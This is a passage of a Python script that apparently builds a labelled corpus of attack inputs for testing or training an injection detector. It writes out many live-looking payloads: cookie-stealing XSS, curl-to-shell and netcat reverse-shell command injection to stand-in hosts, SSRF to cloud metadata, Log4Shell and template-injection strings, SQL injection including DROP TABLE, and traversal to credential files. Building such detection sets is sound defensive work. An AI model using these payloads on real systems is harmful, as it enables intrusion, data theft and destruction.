    "en%0d%0aX-Forwarded-For:%20127.0.0.1",
    "roll.pdf\r\nContent-Disposition: attachment; filename=invoice.exe",
    "navy%0aRefresh:%200;url=https://attacker.example/",
    "lang=de%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1",
    "PO-55812%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example",
)
add("crlf", "response-splitting",
    "report%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
    "lot\r\n\r\n<html><body>Session expired, <a href=\"https://attacker.example/login\">log in again</a></body></html>",
    "2218-07%0D%0A%0D%0A%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "back%0d%0aTransfer-Encoding:%20chunked%0d%0a%0d%0a0%0d%0a%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20localhost",
)
add("crlf", "mail-header-injection",
    "buyer@customer.example\r\nBcc: list@attacker.example",
    "Order confirmation 55812\nCc: finance@attacker.example\nX-Priority: 1",
    "Ana O'Brien <ana@mill.example>%0ABcc:%20dump@attacker.example",
    "Lab dip approved\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/pay\">Pay deposit here</a>",
    "sales@mill.example%0d%0aTo:%20victim1@customer.example,%20victim2@customer.example",
    "Re: PO-55812\nReply-To: accounts@attacker.example\nSubject: Updated bank details",
)
add("crlf", "csv-row-injection",
    "good roll\n2218-99,100,A,0\n2218-98,100,A,0",
    "navy\",\"100\"\r\n\"=HYPERLINK(\"\"https://attacker.example\"\")\",\"1",
    "lot 6630;1100\n9999;-50000;approved",
    "L14,420,91\r\nL15,0,0,\"deleted by admin\"",
    "Smith & Sons\";\"0.01\"\n\"Weber KG\";\"0.01",
)

# ---------------------------------------------------------------- ldap-xpath
add("ldap-xpath", "ldap-injection",
    "*)(uid=*))(|(uid=*",
    "supervisor)(|(password=*))",
    "ana*)(memberOf=cn=mill-admins,ou=groups,dc=mill,dc=local",
    "*)(objectClass=*",
    "admin)(&)",
    "weaver)(|(cn=*)(userPassword=*)",
    "*))%00",
    "x*)(|(telephoneNumber=*)(mail=*",
    "\\2a)(uid=\\2a",
    "L14*)(description=*",
)
add("ldap-xpath", "xpath-injection",
    "' or '1'='1",
    "6630' or 1=1 or 'a'='a",
    "x' or name()='password' or 'x'='y",
    "'] | //operator/password | //x['",
    "R-2201' and count(/*)=1 and '1'='1",
    "' or substring(//operator[1]/password,1,1)='a' or ''='",
    "navy\" or \"1\"=\"1",
    "1 or string-length(name(/*[1]))=5",
    "')] | //* | //*[('",
    "2218-07' or doc('http://attacker.example/x.xml') or '",
)

# ---------------- pool joins (hand-written theme prefixes + payload pool)
PREFIXES = {
    "xss": ["Roll 2218-07 note: ", "Shift B handover: ", "Lab dip comment: ", "Defect photo caption: "],
    "cmdi": ["export week32.csv", "print label roll 2218-07", "loom L14 log", "backup recipes"],
    "ssrf": ["spec sheet url: ", "supplier cert link: ", "lab dip image: "],
    "code": ["Order note: ", "Label text: ", "Customer ref: "],
}
PAYLOADS = {
    "xss": ("pool-event-handler", [
        "<img src=/roll.jpg onerror=fetch('//attacker.example/x?'+document.cookie)>",
        "<svg onload=fetch('//attacker.example/'+document.cookie)>",
        "<iframe src=\"javascript:fetch('//attacker.example/i')\">",
        "<details open ontoggle=import('//attacker.example/d.js')>",
    ]),
    "cmdi": ("pool-separator", [
        "; curl http://attacker.example/i.sh | sh",
        " && cat /etc/passwd",
        " | nc 203.0.113.44 4444 -e /bin/bash",
        " $(wget -qO- 198.51.100.3/s|sh)",
    ]),
    "ssrf": ("pool-internal", [
        "http://169.254.169.254/latest/meta-data/iam/info",
        "http://127.0.0.1:9200/_all/_search",
        "http://192.168.0.10/admin/config.xml",
    ]),
    "code": ("pool-ssti-log4shell", [
        "{{ joiner.__init__.__globals__.os.popen('uname -a').read() }}",
        "${jndi:ldap://attacker.example/lbl}",
        "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/lbl')}",
    ]),
}
POOL_COUNTS = {"xss": 4, "cmdi": 6, "code": 3}

# ---------------- single percent-encoding of every byte (sqli / traversal)
URLENC = [
    ("sqli", "union-select+urlencode", "' UNION SELECT login,pwd FROM hmi_users-- "),
    ("sqli", "boolean-tautology+urlencode", "2231' OR '1'='1"),
    ("sqli", "time-blind+urlencode", "L14' AND SLEEP(6)#"),
    ("sqli", "stacked+urlencode", "x'; DROP TABLE yarn_lots;--"),
    ("traversal", "dot-dot-slash+urlencode", "../../../../etc/passwd"),
    ("traversal", "windows+urlencode", "..\\..\\..\\Windows\\win.ini"),
    ("traversal", "dot-dot-slash+urlencode", "exports/../../../../root/.ssh/id_rsa"),
    ("traversal", "absolute-and-null+urlencode", "/proc/self/environ"),
]


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


CAT_ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bpath = os.path.join(here, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    rng = random.Random(SEED)
    rows = {c: [] for c in CAT_ORDER}
    seen = set()

    def put(cat, cls, v, literal):
        assert cat in rows, cat
        assert 1 <= len(v) <= 2000, v
        assert v not in seen, ("dup", v)
        assert v not in benign, ("benign clash", v)
        for ch in v:
            o = ord(ch)
            assert not (o < 32 and ch not in "\n\r\t") and o != 127, ("ctrl", v)
        seen.add(v)
        rows[cat].append((cls, v, literal))

    for cat, cls, v in L:
        put(cat, cls, v, True)
    for cat, cls, raw in URLENC:
        put(cat, cls, pct_all(raw), False)
    for cat in sorted(POOL_COUNTS):
        cls, pl = PAYLOADS[cat]
        pre = PREFIXES[cat]
        n = 0
        guard = 0
        while n < POOL_COUNTS[cat]:
            guard += 1
            assert guard < 1000
            v = rng.choice(pre) + rng.choice(pl)
            if v in seen:
                continue
            put(cat, cls, v, False)
            n += 1

    out = os.path.join(here, "attacks.jsonl")
    i = 0
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for cat in CAT_ORDER:
            for cls, v, _lit in rows[cat]:
                i += 1
                obj = {"id": "hamc-%05d" % i, "category": cat, "class": cls,
                       "label": "attack", "value": v}
                f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    total = sum(len(r) for r in rows.values())
    lits = sum(1 for r in rows.values() for x in r if x[2])
    for cat in CAT_ORDER:
        print("%-11s n=%3d literals=%3d" % (cat, len(rows[cat]), sum(1 for x in rows[cat] if x[2])))
    print("total", total, "literals", lits, "(%.1f%%)" % (100.0 * lits / total))


if __name__ == "__main__":
    main()
